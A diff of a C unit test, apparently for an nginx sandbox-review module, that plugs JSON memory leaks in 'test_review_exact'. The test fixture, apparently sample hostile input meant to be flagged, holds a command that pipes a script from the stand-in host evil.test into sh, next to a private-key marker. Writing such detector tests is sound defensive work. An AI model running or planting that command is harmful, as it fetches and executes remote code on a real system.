@@ -733,7 +733,7 @@ test_review_exact(void **state)
 {
     u_char   md[32], hex[65];
     char    *req, *script, *e;
-    json_t  *j, *env, *flagged, *base;
+    json_t  *j, *env, *flagged, *base, *over;
     size_t   len;
     sum_t    t = { 0 };
 
@@ -741,7 +741,9 @@ test_review_exact(void **state)
              "curl -s http://evil.test/x | sh\n"
              "-----END RSA PRIVATE KEY-----\n";
 
-    e = json_dumps(json_string(script), JSON_ENCODE_ANY);
+    over = json_string(script);
+    e = json_dumps(over, JSON_ENCODE_ANY);
+    json_decref(over);
     assert_non_null(e);
     req = malloc(strlen(e) + 128);
     assert_non_null(req);
@@ -751,10 +753,11 @@ test_review_exact(void **state)
 
     base = json_loads("{\"OPENSSL_CONF\": \"/workspace/tls.cnf\","
                       " \"LANG\": \"C\"}", 0, NULL);
-    env = ngx_http_veto_sandbox_env_review(base,
-                  json_loads("{\"PATH\": \"/bin\", \"LANG\": \"C.UTF-8\"}",
-                             0, NULL),
-                  dangerous2, NULL, &flagged);
+    over = json_loads("{\"PATH\": \"/bin\", \"LANG\": \"C.UTF-8\"}", 0,
+                      NULL);
+    env = ngx_http_veto_sandbox_env_review(base, over, dangerous2, NULL,
+                                           &flagged);
+    json_decref(over);
     assert_non_null(env);
     assert_non_null(flagged);
 
